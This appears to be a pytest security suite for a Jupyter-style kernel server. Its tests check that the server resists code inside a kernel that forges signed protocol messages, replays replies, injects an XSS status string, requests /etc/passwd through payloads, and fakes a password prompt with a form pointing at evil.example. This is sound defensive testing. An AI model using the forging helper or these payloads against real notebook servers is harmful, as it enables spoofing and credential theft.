"""G. The kernel protocol: what hostile code in a kernel says over it, to whoever listens."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from platform_server.testing.conversations import text_of
from platform_server.testing.processes import resident_bytes
from platform_server.testing.web_kernels import connected, kernel_of, value_of

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from platform_kernels.messages import Message
    from platform_server.testing.kernel_sockets import KernelSocket
    from platform_server.testing.serving import Person

# In the kernel: send a message on any of its sockets, signed or not, about any request.
FORGE = """
kernel = get_ipython().kernel
iopub, stdin = kernel.iopub_socket, kernel.stdin_socket
shell = kernel.shell_channel_thread.manager.get_subshell_to_shell_channel_socket(None)
client = kernel._parent_ident['shell']
nobodys = {'header': {'msg_id': 'n', 'msg_type': 'execute_request', 'session': 's', 'date': ''}}
def forge(socket, kind, content, parent=None, key=None, times=1):
    session = kernel.session.clone()
    if key is not None:
        session.key = key
    message = session.msg(kind, content, parent=parent or kernel.get_parent())
    frames = session.serialize(message, ident=None if socket is iopub else client)
    for _ in range(times):
        socket.send_multipart(frames)
        # The server takes replies and questions from the journal, and those only.
        if socket is not iopub:
            channel = b'stdin' if socket is stdin else b'shell'
            kernel.session.publisher.note(channel, session.serialize(message))
"""
MEBIBYTE = 2**20


@pytest.fixture
async def socket(alice: Person) -> AsyncIterator[KernelSocket]:
    await alice.project("protocol")
    async with kernel_of(alice, "protocol") as socket:
        yield socket


@pytest.fixture
async def his(bob: Person) -> AsyncIterator[KernelSocket]:
    await bob.project("protocol")
    async with kernel_of(bob, "protocol") as socket:
        yield socket


async def forged(socket: KernelSocket, code: str) -> list[Message]:
    """Forge in the kernel, and return what came of it."""
    answers = await socket.run(f"{FORGE}\n{code}\nprint('done')")
    assert text_of(answers).endswith("done\n"), of(answers, "error")
    return answers


def of(messages: list[Message], kind: str) -> list[Any]:
    return [one.content for one in messages if one.header.type == kind]


def states(messages: list[Message]) -> list[str]:
    return [one["execution_state"] for one in of(messages, "status")]


class Test81ForgedMessages:
    async def test_081_no_kernels_socket_is_within_reach_of_a_sandbox(
        self, socket: KernelSocket
    ) -> None:
        line = "find / -type s -not -path '/proc/*' 2>/dev/null; grep -o '/.*' /proc/net/unix"
        command = f"subprocess.run(['bash', '-c', {line!r}], capture_output=True, text=True)"
        found = set(await value_of(socket, f"import subprocess; {command}.stdout.split()"))
        # The network namespace has nobody's unix sockets but those that are made inside.
        names = {path.rpartition("/")[2] for path in found}
        assert names <= {"agent.sock", "stream.sock", "packages.sock"}

    async def test_081_a_message_signed_with_another_key_goes_nowhere(
        self, socket: KernelSocket
    ) -> None:
        answers = await forged(
            socket,
            "forge(iopub, 'stream', {'name': 'stdout', 'text': 'FORGED'}, key=b'guessed')\n"
            "forge(iopub, 'stream', {'name': 'stdout', 'text': 'FORGED'}, key=b'')\n"
            "forge(iopub, 'status', {'execution_state': 'idle'}, key=b'guessed')\n"
            "forge(shell, 'execute_reply', {'status': 'ok'}, key=b'guessed')",
        )
        assert text_of(answers) == "done\n"
        assert states(answers) == ["busy", "idle"]
        assert "execution_count" in of(answers, "execute_reply")[0]

    @pytest.mark.parametrize("state", ["<img src=x onerror=alert(1)>", "", "culled", "x" * 10_000])
    async def test_081_a_state_that_jupyter_does_not_know_is_not_passed_on(
        self, alice: Person, socket: KernelSocket, state: str
    ) -> None:
        answers = await forged(socket, f"forge(iopub, 'status', {{'execution_state': {state!r}}})")
        assert states(answers) == ["busy", "idle"]
        shown = (await alice.http.get("/api/kernels")).json()
        assert [one["execution_state"] for one in shown] == ["idle"]

    async def test_081_a_forged_state_fools_nobody_outside_its_project(
        self, alice: Person, socket: KernelSocket, his: KernelSocket
    ) -> None:
        await forged(
            socket,
            "for state in ('dead', 'restarting', 'starting', 'idle'):\n"
            "    forge(iopub, 'status', {'execution_state': state})",
        )
        assert text_of(await his.run("print('his')")) == "his\n"
        assert set(states(his.messages)) <= {"busy", "idle", "starting"}
        assert text_of(await socket.run("print('alive')")) == "alive\n"
        shown = (await alice.http.get("/api/kernels")).json()
        assert [one["execution_state"] for one in shown] == ["idle"]

    async def test_081_a_replayed_reply_is_answered_once_and_an_unasked_one_never(
        self, socket: KernelSocket
    ) -> None:
        answers = await forged(
            socket,
            "reply = {'status': 'ok', 'execution_count': 666}\n"
            "forge(shell, 'execute_reply', reply, times=3)\n"
            "forge(shell, 'execute_reply', reply, parent=nobodys, times=3)",
        )
        await socket.run("1")
        assert [one["execution_count"] for one in of(answers, "execute_reply")] == [666]
        assert len(of(socket.messages, "execute_reply")) == 2

    async def test_081_a_request_that_is_replayed_by_a_client_harms_nobody(
        self, socket: KernelSocket, his: KernelSocket
    ) -> None:
        request = await socket.execute("x = globals().get('x', 0) + 1")
        await socket.finished(request)
        from platform_kernels import frames

        await socket.connection.send(frames.encode_v1(request))
        # The kernel knows each signature once only.
        assert await value_of(socket, "x") == 1
        assert await value_of(his, "'x' in globals()") is False


async def test_082_a_kernels_key_is_in_the_servers_private_database_and_in_no_other_file(
    alice: Person, socket: KernelSocket
) -> None:
    key: bytes = await value_of(socket, "get_ipython().kernel.session.key")
    assert len(key) >= 32
    root = alice.server.home.parent
    files = [path for path in root.rglob("*") if path.is_file() and not path.is_symlink()]
    having = [path for path in files if key in path.read_bytes()]
    assert having
    for path in having:
        assert path.name.removeprefix("platform.sqlite") in {"", "-wal"}
        assert path.stat().st_mode & 0o777 == 0o600
        assert path.parent.stat().st_mode & 0o777 == 0o700
    assert not [path for path in root.rglob("*") if path.name.startswith("kernel-")]
    search = """
import subprocess
key = get_ipython().kernel.session.key.decode()
folders = ['/run', '/tmp', '/home', '/workspace', '/dev/shm']
subprocess.run(['grep', '-rlse', key, *folders], capture_output=True).stdout
"""
    assert await value_of(socket, search) == b""


async def test_082_nobody_but_the_server_may_open_the_sockets_of_kernels(
    alice: Person, socket: KernelSocket
) -> None:
    await socket.run("1")
    run = alice.server.home / "run"
    sockets = [
        path for path in run.rglob("*") if path.is_socket() and path.parent.name != "control"
    ]
    assert sockets
    for one in sockets:
        closed = [above for above in one.parents if above.is_relative_to(run)]
        assert any(above.stat().st_mode & 0o077 == 0 for above in closed), one


class Test83AbusesOfRichMessages:
    async def test_083_only_harmless_payloads_are_passed_on(self, socket: KernelSocket) -> None:
        answers = await socket.run("""
write = get_ipython().payload_manager.write_payload
write({'source': 'load', 'filename': '/etc/passwd'})
write({'source': 'edit_magic', 'filename': '/etc/passwd', 'line_number': 1})
write({'source': 'page', 'data': {'text/plain': 'x' * 2_000_000}, 'start': 0})
write({'source': 'set_next_input', 'text': {'html': '<script>'}, 'replace': True})
write({'source': 'set_next_input', 'text': 'harmless', 'replace': False})
""")
        (reply,) = of(answers, "execute_reply")
        assert [(one["source"], one["text"]) for one in reply["payload"]] == [
            ("set_next_input", "harmless")
        ]

    async def test_083_a_display_is_updated_in_its_own_kernel_only(
        self, alice: Person, socket: KernelSocket, his: KernelSocket
    ) -> None:
        await socket.run("h = display('hers', display_id='same')")
        async with kernel_of(alice, "protocol") as other:
            for attacker in (other, his):
                answers = await attacker.run(
                    "from IPython.display import update_display\n"
                    "update_display('forged', display_id='same')"
                )
                assert len(of(answers, "update_display_data")) == 1
        await socket.run("1")
        assert of(socket.messages, "update_display_data") == []

    async def test_083_a_comm_reaches_the_clients_of_its_own_kernel_only(
        self, socket: KernelSocket, his: KernelSocket
    ) -> None:
        await his.run("from comm import create_comm; create_comm('jupyter.widget', comm_id='c')")
        await socket.send("shell", "comm_msg", {"comm_id": "c", "data": {}})
        await socket.run("1")
        assert of(socket.messages, "comm_open") == []
        assert of(his.messages, "comm_msg") == []

    async def test_083_a_target_that_nobody_offers_is_closed(self, socket: KernelSocket) -> None:
        await socket.send("shell", "comm_open", {"comm_id": "c", "target_name": "__import__"})
        closed = await socket.first(lambda one: one.header.type == "comm_close")
        assert closed.content["comm_id"] == "c"

    async def test_083_giant_buffers_and_contents_are_left_out(
        self, alice: Person, socket: KernelSocket
    ) -> None:
        server = alice.server.process.pid
        before = resident_bytes(server)
        answers = await socket.run("""
from comm import create_comm
comm = create_comm('giant')
comm.send({}, buffers=[bytes(150 * 2**20)])
display({'text/plain': 'x' * (100 * 2**20)}, raw=True)
print('done')
""")
        assert of(answers, "comm_msg") == of(answers, "display_data") == []
        assert text_of(answers).count("MB left out") == 2
        assert text_of(answers).endswith("done\n")
        assert resident_bytes(server) - before < 100 * MEBIBYTE

    async def test_083_deeply_nested_json_stops_nobody(
        self, socket: KernelSocket, his: KernelSocket
    ) -> None:
        await forged(
            socket,
            "session = kernel.session\n"
            "heads = (session.msg_header('display_data'), kernel.get_parent()['header'], {})\n"
            "parts = [*map(session.pack, heads), b'[' * 200_000 + b']' * 200_000]\n"
            "iopub.send_multipart([b'<IDS|MSG>', session.sign(parts), *parts])",
        )
        assert text_of(await socket.run("print('fine')")) == "fine\n"
        assert text_of(await his.run("print('fine')")) == "fine\n"


async def asked(socket: KernelSocket, code: str) -> None:
    """Forge a question, and have an honest one follow it on the same channel."""
    request = await socket.execute(f"{FORGE}\n{code}\ninput('honest')")
    await socket.first(lambda one: one.content.get("prompt") == "honest")
    await socket.send("stdin", "input_reply", {"value": "", "status": "ok"})
    await socket.finished(request)


class Test84Questions:
    async def test_084_a_question_is_text_of_a_readable_length_and_nothing_more(
        self, socket: KernelSocket
    ) -> None:
        await asked(
            socket,
            "forge(stdin, 'input_request', {'prompt': 'Password: ' + 'x' * 10**6, "
            "'password': 'yes', 'html': '<form action=//evil.example>'})",
        )
        forged_one, _ = of(socket.messages, "input_request")
        assert set(forged_one) == {"prompt", "password"}
        assert forged_one["password"] is False
        assert len(forged_one["prompt"]) <= 4096

    async def test_084_nobody_is_asked_on_account_of_what_they_did_not_run(
        self, alice: Person, socket: KernelSocket
    ) -> None:
        (model,) = (await alice.http.get("/api/kernels")).json()
        async with connected(alice, model["id"]) as other:
            await other.run("1")
            await asked(
                socket,
                "question = {'prompt': 'Password: ', 'password': True}\n"
                "forge(stdin, 'input_request', question, parent=nobodys)\n"
                "forge(iopub, 'input_request', question)",
            )
            await other.run("2")
            on_stdin = [one for one in socket.messages + other.messages if one.channel == "stdin"]
        assert [one.content["prompt"] for one in on_stdin] == ["honest"]
